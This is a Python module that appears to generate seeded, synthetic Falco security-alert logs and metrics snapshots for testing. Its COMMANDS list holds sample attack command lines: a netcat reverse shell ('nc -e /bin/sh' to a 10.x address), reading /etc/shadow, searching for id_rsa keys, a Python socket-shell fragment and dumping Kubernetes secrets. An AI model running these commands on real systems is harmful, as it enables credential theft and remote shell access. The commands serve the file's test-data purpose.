"""A seeded Falco log: ordinary alerts of 900 to 1700 bytes, and a metrics snapshot of 92 fields every thousand of them.

The same options give the same bytes. Shapes follow Falco 0.40: userspace/falco/stats_writer.cpp (snapshots) and
userspace/engine/formats.cpp (alerts). One alert in ten has the words "metrics snapshot" in a command line.
"""
# ruff: noqa: S311, PLR2004, SIM905  seeded on purpose; the numbers are the shape of the data; lists of words

import json
import string
import time
from collections.abc import Iterator
from random import Random
from typing import Any

Fields = dict[str, Any]

START_NS = 1_772_000_000_000_000_000
SNAPSHOT_RULE = "Falco internal: metrics snapshot"
_RULES = """
Terminal shell in container|Notice|container shell mitre_execution T1059
Read sensitive file untrusted|Warning|T1555 container filesystem host maturity_stable mitre_credential_access
Contact K8S API Server From Container|Notice|T1565 container k8s maturity_stable mitre_discovery network
Redirect STDOUT/STDIN to Network Connection in Container|Notice|T1059 container maturity_stable mitre_execution network process
Drop and execute new binary in container|Critical|PCI_DSS_11.5.1 TA0003 container maturity_stable mitre_persistence process
Fileless execution via memfd_create|Critical|T1620 container host maturity_stable mitre_defense_evasion process
Search Private Keys or Passwords|Warning|T1552.001 container filesystem host maturity_stable mitre_credential_access process
Packet socket created in container|Notice|T1557.002 container maturity_stable mitre_credential_access network
Clear Log Activities|Warning|NIST_800-53_AU-10 T1070 container filesystem host maturity_stable mitre_defense_evasion
Netcat Remote Code Execution in Container|Warning|T1059 container maturity_stable mitre_execution network process
"""  # noqa: E501
RULES = [
    (name, priority, tags.split()) for name, priority, tags in (row.split("|") for row in _RULES.split("\n")[1:-1])
]
IMAGES = """docker.io/library/nginx docker.io/library/redis registry.k8s.io/kube-proxy quay.io/prometheus/node-exporter
ghcr.io/acme/payments-api ghcr.io/acme/frontend docker.io/bitnami/postgresql public.ecr.aws/eks/coredns
docker.io/grafana/grafana gcr.io/google-samples/microservices-demo/cartservice""".split()
TAGS = ["latest", "1.27.3", "v2.11.1", "7.2-alpine", "sha-9f3c2d1", "2026.07.1"]
NAMESPACES = ["default", "kube-system", "payments", "frontend", "monitoring", "ingress-nginx"]
COMMANDS = [
    "bash -c curl -s http://10.0.{a}.{b}:8080/healthz",
    "sh -i",
    "cat /etc/shadow",
    "find / -name id_rsa -o -name id_ed25519",
    "nc -e /bin/sh 10.{a}.{b}.7 4444",
    "python3 -c import socket,subprocess,os;s=socket.socket()",
    "kubectl get secrets -A -o json",
    'bash -c "echo \\"metrics snapshot\\" | tee /var/log/app-{a}.log"',
    "tail -f /var/log/nginx/access.log --retry --pid={a}{b}",
    "node /srv/app/server.js --max-old-space-size=4096 --inspect=0.0.0.0:{a}{b}",
]
PROGRAMS = """/usr/bin/bash /bin/sh /usr/bin/cat /usr/bin/find /usr/bin/nc.openbsd /usr/bin/python3.11
/usr/local/bin/kubectl /usr/bin/node""".split()
USERS = ["root", "www-data", "app", "nobody", "postgres", "deploy", "jenkins"]
MISSING = (None, "", "<NA>")
MISSING_WEIGHTS = (0.6, 0.1, 0.3)
WATCHED = (
    "container.image.repository",
    "user.name",
    "k8s.pod.name",
    "fd.name",
)  # the truth tells how complete they are
LAST = (
    "falco.n_containers",
    "falco.n_missing_container_images",
    "scap.n_evts",
    "falco.num_evts",
    "scap.n_drops",
)
DROP_REASONS = """clone_fork_exit close_exit connect_enter connect_exit dir_file_exit execve_exit open_enter open_exit
other_interest_exit proc_exit""".split()
PROBES = ("connect", "sched_p_exec", "sched_p_exit", "sys_enter", "sys_exit")
_NAME_CHARACTERS = string.ascii_letters + string.digits
_encode = json.JSONEncoder(separators=(",", ":"), ensure_ascii=False).encode


class Host:
    """A host, its fixed facts and the counters of its Falco."""

    def __init__(self, number: int, rng: Random) -> None:
        self.name = f"node-{number:05d}.eu-west-1.compute.internal"
        self.boot_ns = 1_767_225_600_000_000_000 + rng.randrange(10**15)
        self.start_ns = self.boot_ns + 90 * 10**9
        self.cpus = rng.choice([4, 8, 16, 32, 64])
        self.containers = rng.randrange(20, 200)
        self.events = self.drops = self.kernel_events = 0
        self._counters: dict[str, int] = {}

    def count(self, rng: Random, name: str, bound: int) -> int:
        """Let a counter grow by less than a bound; its new value."""
        self._counters[name] = self._counters.get(name, 0) + rng.randrange(bound)
        return self._counters[name]


def _iso(at_ns: int) -> str:
    seconds, rest = divmod(at_ns, 10**9)
    return time.strftime("%Y-%m-%dT%H:%M:%S", time.gmtime(seconds)) + f".{rest:09d}Z"


def _hex(rng: Random, digits: int) -> str:
    return f"{rng.getrandbits(4 * digits):0{digits}x}"


# -- snapshots ---------------------------------------------------------------------------------------------------------


def _gauges(host: Host, rng: Random, at_ns: int, rate: float) -> Fields:
    address = "falco.host_netinfo.interfaces.eth0.protocols.ipv4.addresses"
    return {
        "evt.hostname": host.name,
        "evt.source": "syscall",
        "evt.time": at_ns,
        "falco.container_memory_used_mb": round(rng.uniform(80, 400), 1),
        "falco.cpu_usage_perc": round(rng.uniform(0.3, 25), 1),
        "falco.duration_sec": (at_ns - host.start_ns) // 10**9,
        "falco.evts_rate_sec": rate,
        "falco.host_boot_ts": host.boot_ns,
        "falco.host_cpu_usage_perc": round(rng.uniform(1, 90), 1),
        "falco.host_memory_used_mb": round(rng.uniform(2000, 60000), 1),
        address: f"10.{rng.randrange(256)}.{rng.randrange(256)}.{rng.randrange(1, 255)}",
        "falco.host_num_cpus": host.cpus,
        "falco.host_open_fds": rng.randrange(3000, 90000),
        "falco.host_procs_running": rng.randrange(1, 60),
        "falco.jemalloc.active_bytes": rng.randrange(10**7, 10**8),
        "falco.jemalloc.allocated_bytes": rng.randrange(10**7, 10**8),
        "falco.jemalloc.mapped_bytes": rng.randrange(10**8, 10**9),
        "falco.jemalloc.metadata_bytes": rng.randrange(10**6, 10**7),
        "falco.jemalloc.resident_bytes": rng.randrange(10**7, 10**8),
        "falco.jemalloc.retained_bytes": rng.randrange(10**7, 10**8),
        "falco.kernel_release": "6.1.115-126.197.amzn2023.x86_64",
        "falco.memory_pss_mb": round(rng.uniform(60, 200), 1),
        "falco.memory_rss_mb": round(rng.uniform(60, 220), 1),
        "falco.memory_vsz_mb": round(rng.uniform(800, 2600), 1),
    }


def _state_counters(host: Host, rng: Random, missing_images: int) -> Fields:
    return {
        "falco.n_added_fds": host.count(rng, "af", 10**7),
        "falco.n_added_threads": host.count(rng, "at", 10**6),
        "falco.n_cached_fd_lookups": host.count(rng, "cf", 10**7),
        "falco.n_cached_thread_lookups": host.count(rng, "ct", 10**7),
        "falco.n_containers": host.containers,
        "falco.n_drops_full_threadtable": 0,
        "falco.n_failed_fd_lookups": host.count(rng, "ff", 10**5),
        "falco.n_failed_thread_lookups": host.count(rng, "ft", 10**5),
        "falco.n_fds": rng.randrange(1000, 60000),
        "falco.n_missing_container_images": missing_images,
        "falco.n_noncached_fd_lookups": host.count(rng, "nf", 10**6),
        "falco.n_noncached_thread_lookups": host.count(rng, "nt", 10**6),
        "falco.n_removed_fds": host.count(rng, "rf", 10**6),
        "falco.n_removed_threads": host.count(rng, "rt", 10**6),
        "falco.n_retrieve_evts_drops": host.count(rng, "rd", 10**4),
        "falco.n_retrieved_evts": host.count(rng, "re", 10**6),
        "falco.n_store_evts_drops": 0,
        "falco.n_stored_evts": host.count(rng, "se", 10**6),
        "falco.n_threads": rng.randrange(200, 9000),
    }


def snapshot(host: Host, rng: Random, at_ns: int) -> tuple[Fields, Fields]:
    """Make a metrics snapshot; the whole line and its fields."""
    before, kernel_before, drops_before = host.events, host.kernel_events, host.drops
    host.events += rng.randrange(10_000, 3_000_000)
    host.kernel_events += rng.randrange(3_000_000, 60_000_000)
    host.drops += rng.randrange(0, 2000) if rng.random() < 0.2 else 0
    host.containers = max(1, host.containers + rng.randrange(-3, 4))
    missing_images = rng.randrange(0, 6) if rng.random() < 0.3 else 0
    kernel_new, drops_new = host.kernel_events - kernel_before, host.drops - drops_before
    fields = _gauges(host, rng, at_ns, round((host.events - before) / 900, 1))
    fields |= _state_counters(host, rng, missing_images)
    fields |= {
        "falco.num_evts": host.events,
        "falco.num_evts_prev": before,
        "falco.outputs_queue_num_drops": 0,
        "falco.reload_ts": host.start_ns + 80_000_000,
        "falco.rules.matches_total": host.count(rng, "m", 5000),
        "falco.sha256_config_file.falco_yaml": _hex(Random(host.name), 64),
        "falco.sha256_rules_file.falco_rules_yaml": "58a4f187b6b04b43ae938132325cbbb6b2bb9eb4e76e553f5b4b7b5b360ee0b4",
        "falco.start_ts": host.start_ns,
        "falco.version": "0.40.0",
        "scap.engine_name": "modern_bpf",
        "scap.evts_drop_rate_sec": round(drops_new / 900, 1),
        "scap.evts_rate_sec": round(kernel_new / 900, 1),
        "scap.n_drops": host.drops,
        "scap.n_drops_buffer_total": host.drops,
        "scap.n_drops_perc": 100.0 * drops_new / kernel_new,
        "scap.n_drops_prev": drops_before,
        "scap.n_drops_scratch_map": 0,
        "scap.n_evts": host.kernel_events,
        "scap.n_evts_prev": kernel_before,
    }
    fields |= {f"scap.n_drops_buffer_{reason}": 0 for reason in DROP_REASONS}
    for name, _, _ in RULES[:5]:
        plain = "".join(character if character in _NAME_CHARACTERS else "_" for character in name)
        fields[f"falco.rules.{plain}"] = host.count(rng, name, 900)
    for probe in PROBES:
        fields[f"scap.{probe}.avg_time_ns"] = rng.randrange(80, 1200)
        fields[f"scap.{probe}.run_cnt"] = host.count(rng, probe, 10**8)
        fields[f"scap.{probe}.run_time_ns"] = host.count(rng, probe + "t", 10**10)
    fields = dict(sorted(fields.items()))
    head = {"hostname": host.name, "output": "Falco metrics snapshot", "output_fields": fields}
    tail = {"priority": "Informational", "rule": SNAPSHOT_RULE, "source": "internal", "time": _iso(at_ns)}
    return head | tail, fields


# -- alerts ------------------------------------------------------------------------------------------------------------


def _missing(rng: Random) -> str | None:
    return rng.choices(MISSING, MISSING_WEIGHTS)[0]


def _container(rng: Random, *, is_host: bool, is_image_missing: bool) -> Fields:
    names = ("container.id", "container.image.repository", "container.image.tag", "container.name")
    if is_host:
        values: tuple[Any, ...] = ("host", _missing(rng), None, "host")
        return dict(zip(names, values, strict=True)) | {"k8s.ns.name": None, "k8s.pod.name": None}
    identity, name = _hex(rng, 12), f"k8s_app_{rng.choice(NAMESPACES)}-{_hex(rng, 10)}"
    image, tag = (_missing(rng), None) if is_image_missing else (rng.choice(IMAGES), rng.choice(TAGS))
    namespace, pod = rng.choice(NAMESPACES), f"app-{_hex(rng, 9)}-{_hex(rng, 5)}"
    return dict(zip(names, (identity, image, tag, name), strict=True)) | {"k8s.ns.name": namespace, "k8s.pod.name": pod}


def _alert_fields(rng: Random, at_ns: int) -> Fields:
    is_host = rng.random() < 0.25
    is_image_missing = not is_host and rng.random() < 0.02
    user = _missing(rng) if rng.random() < 0.03 else rng.choice(USERS)
    x, y = rng.randrange(256), rng.randrange(256)
    command = rng.choice(COMMANDS).format(a=x, b=y)
    program = rng.choice(PROGRAMS)
    fields = _container(rng, is_host=is_host, is_image_missing=is_image_missing) | {
        "evt.time": at_ns,
        "evt.type": rng.choice(("execve", "openat", "connect", "dup2")),
        "proc.cmdline": command,
        "proc.exepath": program,
        "proc.name": program.rsplit("/", 1)[1],
        "proc.pname": rng.choice(("containerd-shim", "systemd", "bash", "runc")),
        "proc.tty": rng.choice((0, 34816, 34817)),
        "user.loginuid": rng.choice((-1, 0, 1000)),
        "user.name": user,
        "user.uid": rng.choice((0, 33, 999, 1000)),
    }
    if rng.random() < 0.7:
        fields["proc.aname[2]"] = "containerd"
        fields["proc.cwd"] = f"/srv/app/{_hex(rng, 8)}/"
        fields["proc.pcmdline"] = f"containerd-shim -namespace k8s.io -id {_hex(rng, 20)}"
        fields["proc.sid"] = rng.randrange(1, 99999)
        fields["group.gid"] = 0
    if rng.random() < 0.4:
        fields["fd.name"] = f"10.{x}.{y}.7:{rng.randrange(1024, 65535)}->10.96.0.1:443"
        fields |= {"fd.lport": 443, "fd.l4proto": "tcp", "fd.rip": "10.96.0.1"}
    return dict(sorted(fields.items()))


_OUTPUT = (
    "evt_type=evt.type user=user.name user_uid=user.uid process=proc.name proc_exepath=proc.exepath parent=proc.pname "
    "command=proc.cmdline terminal=proc.tty container_id=container.id container_name=container.name "
    "container_image=container.image.repository container_image_tag=container.image.tag k8s_ns=k8s.ns.name "
    "k8s_pod_name=k8s.pod.name"
)
_OUTPUT_FIELDS = [tuple(pair.split("=")) for pair in _OUTPUT.split()]


def alert(host: Host, rng: Random, at_ns: int) -> tuple[Fields, Fields]:
    """Make an ordinary alert; the whole line and its fields."""
    rule, priority, tags = rng.choice(RULES)
    fields = _alert_fields(rng, at_ns)
    shown = [(label, fields[name]) for label, name in _OUTPUT_FIELDS]
    pairs = " ".join(f"{label}={'<NA>' if value is None else value}" for label, value in shown)
    output = f"{_iso(at_ns)}: {priority} {rule} ({pairs})"
    head = {"hostname": host.name, "output": output, "output_fields": fields, "priority": priority, "rule": rule}
    return head | {"source": "syscall", "tags": tags, "time": _iso(at_ns)}, fields


# -- the log -----------------------------------------------------------------------------------------------------------


def records(alerts: int, hosts: int, seed: int, snapshot_every: int) -> Iterator[tuple[Fields, Fields, bool]]:
    """Yield lines with their fields, and whether they are snapshots; hosts take turns."""
    rng = Random(seed)
    fleet = [Host(number, Random(seed * 1_000_003 + number)) for number in range(hosts)]
    at_ns = START_NS
    for index in range(alerts):
        at_ns += rng.randrange(1_000_000, 900_000_000)
        yield *alert(fleet[index % hosts], rng, at_ns), False
        if (index + 1) % snapshot_every == 0:
            turn = (index + 1) // snapshot_every - 1
            yield *snapshot(fleet[turn % hosts], rng, at_ns + 1), True


def encode(line: Fields) -> bytes:
    """Write a line as Falco does."""
    return _encode(line).encode() + b"\n"
